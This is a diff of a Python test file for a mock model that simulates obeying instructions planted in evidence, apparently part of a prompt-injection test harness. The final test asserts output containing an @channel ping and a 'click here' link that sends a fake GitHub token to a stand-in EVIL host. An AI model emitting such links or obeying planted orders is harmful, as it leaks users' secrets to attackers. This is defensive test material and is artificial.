@@ -82,6 +82,20 @@ def test_obey_names_whom_it_was_told_to_name_and_repeats_the_order() -> None:
     assert "Rollback executed" in claims[1]["text"]
 
 
+def test_obey_says_what_the_rules_say_where_nobody_gives_orders() -> None:
+    prompt = {**PROMPT, "evidence": [PROMPT["evidence"][0], PROMPT["evidence"][2]]}  # type: ignore[index]
+    request = Asked({}, {**asked().body, "messages": [{"role": "user", "content": json.dumps(prompt)}]})
+    reply = obey(request)
+    assert reply.form is not None
+    assert reply.form["choice"] == "S1"
+
+
+def test_an_agent_hands_its_answer_in_by_the_tool_for_that() -> None:
+    tool = {"type": "function", "function": {"name": "answer", "parameters": FORM}}
+    reply = extract(asked(form=None, tools=[tool]))
+    assert [(call.name, call.arguments) for call in reply.calls] == [("answer", extract(asked()).form)]
+
+
 def test_obey_is_as_loud_as_slack_allows() -> None:
     words = obey(asked(form=None)).words
     for loud in ("<!channel>", f"[click here]({EVIL}?ghp_abc123def456ghi7)", "http://planted.example/x", "Posted to #board."):
